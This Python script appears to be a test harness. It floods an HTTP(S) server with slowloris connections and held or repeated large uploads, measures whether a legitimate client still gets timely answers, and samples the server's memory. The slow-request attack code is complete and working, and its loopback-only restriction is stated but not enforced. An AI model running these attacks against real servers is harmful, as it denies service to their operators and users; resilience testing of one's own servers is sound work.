#!/usr/bin/env python3
"""Attacks an HTTP(S) server while timing the requests of a good client.

Loopback only. The attacking connections come from --attack-src addresses
(any of 127.0.0.0/8: Linux answers the whole block on lo), the good client
from --good-src, so a server that limits connections per client address can
tell them apart, as it would tell an attacking pod from the apiserver or the
kubelet.

  --slow N        N connections that send a request one byte every
                  --interval seconds and never finish it (slowloris); a
                  connection the server closes is opened again
  --hold N        N uploads of --size bytes (Content-Length), all sent but the
                  last byte, then held one byte short until the server answers
                  or closes; again when it does
  --hold-bytes B  the held uploads send B bytes of their body, not all but one:
                  what they declare (Content-Length) is what the server reserves
  --send N        N uploads of --send-size bytes (default --size) sent whole,
                  the first 0.5 s after the others began, the answer read,
                  again 0.3 s later (what a client that is told to wait does)
  --good URL      a good request, repeated every --every seconds on a new
                  connection with a --timeout deadline, from the start to the
                  end of the attack: GET URL, or POST URL with the body of
                  FILE when written URL@FILE (https: no certificate check)
  --pid PID       the server's process: its resident memory is sampled every
                  0.05 s (VmRSS) and read at the end (VmHWM, the peak)

Prints one JSON object: for each good URL the requests made, those answered
with 200 within the timeout, the slowest answer and the failures; for the
attack, how many connections the server closed and at which age, the status
lines it answered uploads with (and their Retry-After); the memory.
"""
import argparse
import json
import os
import select
import socket
import ssl
import sys
import threading
import time
import urllib.parse

stop = threading.Event()
lock = threading.Lock()


# One context for every connection: making one reads the system's CA bundle.
TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE


def dial(scheme, host, port, src, timeout):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.bind((src, 0))
    s.connect((host, port))
    if scheme == "https":
        s = TLS.wrap_socket(s, server_hostname=host)
    return s


def closed_by_peer(s):
    """True when the server closed the connection (EOF or reset)."""
    try:
        r, _, _ = select.select([s], [], [], 0)
        if not r:
            return False
        s.settimeout(0.2)
        data = s.recv(4096)
        return data == b""
    except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
        return False
    except (OSError, ssl.SSLError):
        return True


def read_status(s, timeout):
    """The status line and headers of an answer, or None at EOF or after timeout seconds."""
    buf = b""
    s.settimeout(timeout)
    while b"\r\n\r\n" not in buf and len(buf) < 65536:
        try:
            data = s.recv(4096)
        except (OSError, ssl.SSLError):
            break
        if not data:
            break
        buf += data
    if not buf:
        return None
    head = buf.split(b"\r\n\r\n")[0].decode("latin-1").split("\r\n")
    headers = {}
    for line in head[1:]:
        if ":" in line:
            k, v = line.split(":", 1)
            headers[k.strip().lower()] = v.strip()
    return head[0], headers


class Attack:
    def __init__(self, args, url):
        self.args = args
        self.url = url
        self.closed_ages = []  # age in seconds at which the server closed one
        self.connects = 0
        self.refused = 0  # could not even connect (or closed at once)
        self.answers = {}  # status line -> count (uploads)
        self.retry_after = set()
        self.srcs = args.attack_src.split(",")

    def note_close(self, age):
        with lock:
            self.closed_ages.append(age)

    def slow_one(self, i):
        a, u = self.args, self.url
        src = self.srcs[i % len(self.srcs)]
        request = ("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n"
                   % (u.path or "/", u.hostname)).encode()
        request += b"X-Padding: " + b"a" * 100000
        while not stop.is_set():
            t0 = time.monotonic()
            try:
                s = dial(u.scheme, u.hostname, u.port, src, 2.0)
            except (OSError, ssl.SSLError):
                with lock:
                    self.refused += 1
                stop.wait(a.interval)
                continue
            with lock:
                self.connects += 1
            pos = 0
            while not stop.is_set():
                if closed_by_peer(s):
                    self.note_close(time.monotonic() - t0)
                    break
                try:
                    s.settimeout(1.0)
                    s.send(request[pos:pos + 1])
                    pos = (pos + 1) % len(request)
                except (OSError, ssl.SSLError):
                    self.note_close(time.monotonic() - t0)
                    break
                stop.wait(a.interval)
            try:
                s.close()
            except OSError:
                pass

    def hold_one(self, i, whole=False):
        a, u = self.args, self.url
        src = self.srcs[i % len(self.srcs)]
        chunk = b"x" * 65536
        if whole:
            stop.wait(0.5)
        while not stop.is_set():
            t0 = time.monotonic()
            try:
                s = dial(u.scheme, u.hostname, u.port, src, 2.0)
            except (OSError, ssl.SSLError):
                with lock:
                    self.refused += 1
                stop.wait(a.interval)
                continue
            with lock:
                self.connects += 1
            size = (a.send_size or a.size) if whole else a.size
            head = ("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n"
                    "Content-Length: %d\r\n\r\n" % (u.path or "/", u.hostname, size)).encode()
            answered = None
            try:
                s.settimeout(5.0)
                s.sendall(head)
                left = size if whole else (a.hold_bytes or size - 1)
                while left > 0 and not stop.is_set():
                    r, _, _ = select.select([s], [], [], 0)
                    if r:
                        break  # the server answered (or closed) before the body was in
                    n = s.send(chunk[:min(left, len(chunk))])
                    left -= n
                # Held one byte short: the body stays buffered until the server acts.
                while not stop.is_set() and not whole:
                    r, _, _ = select.select([s], [], [], a.interval)
                    if r:
                        break
                if not stop.is_set():
                    answered = read_status(s, 5.0)
            except (OSError, ssl.SSLError):
                pass
            if stop.is_set():
                s.close()
                break
            with lock:
                if answered:
                    line, headers = answered
                    self.answers[line] = self.answers.get(line, 0) + 1
                    if "retry-after" in headers:
                        self.retry_after.add(headers["retry-after"])
                self.closed_ages.append(time.monotonic() - t0)
            try:
                s.close()
            except OSError:
                pass
            stop.wait(0.3 if whole else 0.05)

    def report(self):
        ages = sorted(self.closed_ages)
        return {
            "connects": self.connects,
            "refused": self.refused,
            "closed": len(ages),
            "closed_age_max": round(ages[-1], 3) if ages else None,
            "closed_age_min": round(ages[0], 3) if ages else None,
            "answers": self.answers,
            "retry_after": sorted(self.retry_after),
        }


class Good:
    def __init__(self, spec, args):
        self.url, _, self.body_file = spec.partition("@")
        self.u = urllib.parse.urlsplit(self.url)
        self.body = open(self.body_file, "rb").read() if self.body_file else None
        self.args = args
        self.made = self.ok = 0
        self.slowest = 0.0
        self.failures = {}

    def once(self):
        a, u = self.args, self.u
        t0 = time.monotonic()
        what = None
        try:
            s = dial(u.scheme, u.hostname, u.port, a.good_src, a.timeout)
            method = "POST" if self.body is not None else "GET"
            head = "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n" % (method, u.path, u.hostname)
            if self.body is not None:
                head += "Content-Type: application/json\r\nContent-Length: %d\r\n" % len(self.body)
            s.settimeout(max(0.01, a.timeout - (time.monotonic() - t0)))
            s.sendall(head.encode() + b"\r\n" + (self.body or b""))
            data = b""
            while True:
                s.settimeout(max(0.01, a.timeout - (time.monotonic() - t0)))
                part = s.recv(65536)
                if not part:
                    break
                data += part
            s.close()
            line = data.split(b"\r\n", 1)[0].decode("latin-1")
            if " 200 " not in line + " ":
                what = line or "closed without an answer"
        except socket.timeout:
            what = "no answer within %.1f s" % a.timeout
        except (OSError, ssl.SSLError) as e:
            what = type(e).__name__ + ": " + str(e)
        dt = time.monotonic() - t0
        with lock:
            self.made += 1
            if what is None and dt <= a.timeout:
                self.ok += 1
                self.slowest = max(self.slowest, dt)
            else:
                what = what or "answered after %.2f s" % dt
                self.failures[what] = self.failures.get(what, 0) + 1

    def loop(self):
        while not stop.is_set():
            t = time.monotonic()
            self.once()
            stop.wait(max(0.0, self.args.every - (time.monotonic() - t)))

    def report(self):
        return {"made": self.made, "ok": self.ok, "slowest": round(self.slowest, 3),
                "failures": self.failures}


def vm(pid, key):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith(key + ":"):
                    return int(line.split()[1]) // 1024  # MiB
    except OSError:
        return None
    return None


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--url", help="what the attack connects to")
    p.add_argument("--attack-src", default="127.0.0.1")
    p.add_argument("--good-src", default="127.0.0.2")
    p.add_argument("--slow", type=int, default=0)
    p.add_argument("--hold", type=int, default=0)
    p.add_argument("--hold-bytes", type=int, default=0)
    p.add_argument("--send", type=int, default=0)
    p.add_argument("--send-size", type=int, default=0)
    p.add_argument("--size", type=int, default=6 << 20)
    p.add_argument("--interval", type=float, default=0.5)
    p.add_argument("--good", action="append", default=[])
    p.add_argument("--every", type=float, default=0.2)
    p.add_argument("--timeout", type=float, default=1.0)
    p.add_argument("--duration", type=float, default=5.0)
    p.add_argument("--warmup", type=float, default=1.0,
                   help="seconds of attack before the good client starts")
    p.add_argument("--pid", type=int)
    args = p.parse_args()

    threads = []
    attack = Attack(args, urllib.parse.urlsplit(args.url)) if args.url else None
    for i in range(args.slow):
        threads.append(threading.Thread(target=attack.slow_one, args=(i,), daemon=True))
    for i in range(args.hold):
        threads.append(threading.Thread(target=attack.hold_one, args=(i,), daemon=True))
    for i in range(args.send):
        threads.append(threading.Thread(target=attack.hold_one, args=(i, True), daemon=True))
    for t in threads:
        t.start()
    rss_max = 0
    t_end = time.monotonic() + args.warmup
    while time.monotonic() < t_end:
        if args.pid:
            rss_max = max(rss_max, vm(args.pid, "VmRSS") or 0)
        time.sleep(0.05)
    goods = [Good(g, args) for g in args.good]
    gthreads = [threading.Thread(target=g.loop, daemon=True) for g in goods]
    for t in gthreads:
        t.start()
    t_end = time.monotonic() + args.duration
    while time.monotonic() < t_end:
        if args.pid:
            rss_max = max(rss_max, vm(args.pid, "VmRSS") or 0)
        time.sleep(0.05)
    stop.set()
    for t in gthreads:
        t.join(args.timeout + 1)
    out = {"good": {g.url: g.report() for g in goods}}
    if attack:
        out["attack"] = attack.report()
    if args.pid:
        out["rss_max_mib"] = rss_max
        out["hwm_mib"] = vm(args.pid, "VmHWM")
    json.dump(out, sys.stdout, indent=1, sort_keys=True)
    print()
    sys.stdout.flush()
    os._exit(0)  # attack threads may sit in a blocking call


if __name__ == "__main__":
    main()
